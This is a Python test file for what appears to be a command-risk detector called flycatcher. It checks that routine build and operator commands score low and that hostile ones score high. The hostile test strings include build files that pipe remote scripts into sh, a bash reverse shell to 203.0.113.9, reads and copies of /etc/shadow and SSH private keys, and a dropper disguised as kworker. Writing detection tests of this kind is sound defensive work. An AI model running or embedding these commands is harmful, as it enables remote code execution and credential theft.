"""Steps of builds and of operators that resemble what intruders do, and stay quiet where they are written."""

import pytest

from flycatcher.commands.check.settings import CheckSettings
from flycatcher.commands.check.stream import shell_answer
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution


def written(text):
    return shell_answer(text, CheckSettings()).risk["level"]


def started(text):
    found = detect(Execution(argv=("bash", "-c", text), exe="/usr/bin/bash"), shells=True)
    return found.risk.level if found is not None else "none"


@pytest.mark.parametrize(
    "text",
    [
        'getent hosts "$(hostname).local"',
        'ping -c1 "$(hostname)"',
        "nslookup kubernetes.default.svc.cluster.local",
        'getent passwd "$(whoami)"',
        "for h in $(cat hosts.txt); do getent hosts $h.corp.example; done",
        "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/zone",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
    ],
)
def test_names_and_places_of_machines_are_asked_for_all_day(text):
    assert written(text) in ("none", "low")
    assert started(text) in ("none", "low")


@pytest.mark.parametrize(
    "text",
    [
        'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://storage.example/b',
        'curl -H "Authorization: token $(gh auth token)" https://api.github.com/repos/o/r/releases',
        "aws ecr get-login-password | docker login --username AWS --password-stdin r.example",
        "kubectl get secret regcred -o jsonpath='{.data.x}' | base64 -d",
        'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H "Authorization: Bearer $T" https://kubernetes.default.svc/api',
        'T=$(curl -sX PUT http://169.254.169.254/latest/api/token); curl -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/',
        "dig +short $(cat domains.txt)",
        "printf 'FROM alpine\\nRUN apk add --no-cache curl\\n' > Dockerfile; docker build -t x .",
        "docker build -t x - <<E\nFROM python:3\nRUN pip install requests\nE",
        "printf 'from setuptools import setup\\nsetup(name=\"x\")\\n' > setup.py; pip install .",
    ],
)
def test_credentials_that_sign_in_and_recipes_that_build_are_no_news(text):
    assert written(text) in ("none", "low")


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("printf 'FROM alpine\\nRUN wget -qO- http://203.0.113.9/a | sh\\n' > Dockerfile; docker build .", "critical"),
        (
            "docker build - <<E\nFROM alpine\nRUN --mount=type=secret,id=t wget -qO- http://203.0.113.9/a | sh\nE",
            "critical",
        ),
        (
            "cat > x.Dockerfile <<E\nFROM a\nRUN <<F\nbash -i >& /dev/tcp/203.0.113.9/1 0>&1\nF\nE\nbuildah bud -f x.Dockerfile",
            "critical",
        ),
        ("printf 'import os\\nos.system(\"curl http://203.0.113.9/a|sh\")\\n' > setup.py; pip install .", "critical"),
        ("printf 'all:\\n\\t@curl -s http://203.0.113.9/a|sh\\n' > Makefile; make", "critical"),
    ],
)
def test_a_recipe_that_a_text_writes_is_read(text, level):
    assert written(text) == level


@pytest.mark.parametrize(
    "text",
    [
        "ls -l /etc/shadow",
        "stat -c %a /etc/passwd /etc/shadow",
        'chmod 640 /etc/shadow; chown root:shadow "/etc/shadow"',
        "test -r /etc/shadow && echo readable",
        "[ -f ~/.aws/credentials ] || exit 1",
        '[[ -e "$HOME/.netrc" ]] && echo there',
        "ssh -i ~/.ssh/id_rsa deploy@host.example 'systemctl restart app'",
        "scp -i ~/.ssh/id_rsa build.tgz deploy@host.example:/srv",
        "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519",
    ],
)
def test_a_file_that_is_only_named_is_not_read(text):
    assert started(text) in ("none", "low")


@pytest.mark.parametrize(
    "text",
    [
        "cat /etc/shadow",
        "cp /etc/shadow /tmp/x; ls -l /etc/shadow",
        "ls $(cat ~/.ssh/id_rsa)",
        "unshadow /etc/passwd /etc/shadow > /tmp/h",
        "scp -i ~/.ssh/deploy ~/.ssh/id_rsa me@host.example:",
        "stat ~/.ssh/id_rsa; base64 ~/.ssh/id_rsa",
    ],
)
def test_a_file_that_is_named_and_read_counts(text):
    assert started(text) in ("medium", "high", "critical")


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("curl -fsSLo /usr/local/bin/jq https://x.example/jq && chmod +x /usr/local/bin/jq && jq --version", "none"),
        ("wget -qO ~/.local/bin/tool https://x.example/t; chmod 755 ~/.local/bin/tool", "none"),
        ("curl -fsSLo /usr/local/bin/jq http://x.example/jq && chmod +x /usr/local/bin/jq", "critical"),
        ("curl -fsSLo /usr/local/bin/jq https://203.0.113.9/jq && chmod +x /usr/local/bin/jq", "critical"),
        ("wget -O /usr/bin/kworker https://x.example/x && chmod +x /usr/bin/kworker && kworker &", "critical"),
        ("cd /tmp; wget https://x.example/b.sh; chmod 777 b.sh; sh b.sh; rm -f b.sh", "critical"),
        ('curl -o "$D/x" https://x.example/x; chmod +x "$D/x"; "$D/x"', "critical"),
    ],
)
def test_a_tool_that_is_installed_is_no_dropper(text, level):
    assert written(text) == level
